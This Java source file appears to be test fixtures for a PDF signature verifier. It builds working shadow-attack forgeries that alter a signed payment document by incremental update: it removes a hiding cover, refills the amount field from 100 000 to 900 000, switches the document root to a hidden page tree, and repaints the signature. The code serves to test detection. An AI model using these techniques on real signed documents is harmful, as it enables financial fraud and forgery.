package uz.yagona.signing.verify;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * Files in which a forger has hidden a second content before somebody signs them (shadow attacks),
 * and how it is brought to light afterwards.
 */
final class ShadowFiles {
  private static final COSName SPARE = COSName.getPDFName("Spare");
  private static final PDFont FONT = new PDType1Font(Standard14Fonts.FontName.HELVETICA);

  private ShadowFiles() {}

  /**
   * To be signed in field {@code head}; has a text field, a cover over its text and a second page
   * tree.
   */
  static byte[] prepared() {
    var out = new ByteArrayOutputStream();
    try (var document = new PDDocument()) {
      var page = page(document, "Pay 100 000 to Karimova");
      document.addPage(page);
      cover(document, page);
      form(document, page);
      var catalog = document.getDocumentCatalog().getCOSObject();
      catalog.setItem(SPARE, spare(document, catalog));
      document.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /** Hide: the cover that the signer saw goes away. */
  static byte[] uncovered(byte[] signed) {
    return Forgery.updated(
        signed,
        document -> {
          var resources = document.getPage(0).getResources();
          var cover = resources.getXObject(COSName.getPDFName("Cover")).getCOSObject();
          try (var out = cover.createOutputStream()) {
            out.write(' ');
          }
          cover.setNeedToBeUpdated(true);
        });
  }

  /** Replace: a form field says something else. */
  static byte[] refilled(byte[] signed) {
    return Forgery.updated(
        signed,
        document -> {
          var field = document.getDocumentCatalog().getAcroForm(null).getField("sum");
          field.setValue("900 000");
          field.getCOSObject().setNeedToBeUpdated(true);
          var look = field.getWidgets().get(0).getAppearance();
          look.getCOSObject().setNeedToBeUpdated(true);
          look.getNormalAppearance().getAppearanceStream().getCOSObject().setNeedToBeUpdated(true);
        });
  }

  /** Hide and replace: not one object changes, but another page tree becomes the document. */
  static byte[] switched(byte[] signed) {
    try (var document = Loader.loadPDF(signed)) {
      var text = new String(signed, StandardCharsets.ISO_8859_1);
      var previous = text.substring(text.lastIndexOf("startxref") + 9).strip().split("\\s", 2)[0];
      var catalog = document.getDocumentCatalog().getCOSObject();
      var update =
          "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root %d 0 R/Size %d/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
              .formatted(
                  catalog.getItem(SPARE).getKey().getNumber(),
                  document.getDocument().getTrailer().getInt(COSName.SIZE),
                  previous,
                  signed.length);
      return Forgery.concat(signed, update.getBytes(StandardCharsets.US_ASCII));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Another picture in the field of a signature. */
  static byte[] repainted(byte[] signed) {
    return Forgery.updated(
        signed,
        document -> {
          var field = document.getSignatureFields().get(0);
          var widget = field.getWidgets().get(0);
          widget.setAppearance(Forgery.whiteBox(document));
          widget.getCOSObject().setNeedToBeUpdated(true);
        });
  }

  private static PDPage page(PDDocument document, String words) throws IOException {
    var page = new PDPage(PDRectangle.A4);
    try (var content = new PDPageContentStream(document, page)) {
      content.beginText();
      content.setFont(FONT, 14);
      content.newLineAtOffset(60, 700);
      content.showText(words);
      content.endText();
    }
    return page;
  }

  private static void cover(PDDocument document, PDPage page) throws IOException {
    var cover = new PDFormXObject(new PDStream(document));
    cover.setBBox(new PDRectangle(60, 690, 400, 40));
    cover.setResources(new PDResources());
    try (var out = cover.getContentStream().createOutputStream()) {
      out.write("1 1 1 rg 60 690 400 40 re f".getBytes(StandardCharsets.US_ASCII));
    }
    page.getResources().put(COSName.getPDFName("Cover"), cover);
    var mode = PDPageContentStream.AppendMode.APPEND;
    try (var content = new PDPageContentStream(document, page, mode, false)) {
      content.drawForm(cover);
    }
  }

  private static void form(PDDocument document, PDPage page) throws IOException {
    var form = new PDAcroForm(document);
    document.getDocumentCatalog().setAcroForm(form);
    var resources = new PDResources();
    resources.put(COSName.getPDFName("Helv"), FONT);
    form.setDefaultResources(resources);
    form.setDefaultAppearance("/Helv 12 Tf 0 g");
    var sum = new PDTextField(form);
    sum.setPartialName("sum");
    var widget = sum.getWidgets().get(0);
    widget.setRectangle(new PDRectangle(60, 600, 200, 20));
    widget.setPage(page);
    var head = new PDSignatureField(form);
    head.setPartialName("head");
    head.getWidgets().get(0).setRectangle(new PDRectangle(60, 60, 200, 80));
    head.getWidgets().get(0).setPage(page);
    page.setAnnotations(List.of(widget, head.getWidgets().get(0)));
    form.setFields(List.of(sum, head));
    sum.setValue("100 000");
  }

  private static COSDictionary spare(PDDocument document, COSDictionary catalog)
      throws IOException {
    var page = page(document, "Pay 900 000 to Nobody").getCOSObject();
    var pages = new COSDictionary();
    pages.setItem(COSName.TYPE, COSName.PAGES);
    var kids = new org.apache.pdfbox.cos.COSArray();
    kids.add(page);
    pages.setItem(COSName.KIDS, kids);
    pages.setInt(COSName.COUNT, 1);
    page.setItem(COSName.PARENT, pages);
    var other = new COSDictionary();
    other.setItem(COSName.TYPE, COSName.CATALOG);
    other.setItem(COSName.PAGES, pages);
    other.setItem(COSName.ACRO_FORM, catalog.getItem(COSName.ACRO_FORM));
    other.setDirect(false);
    return other;
  }
}
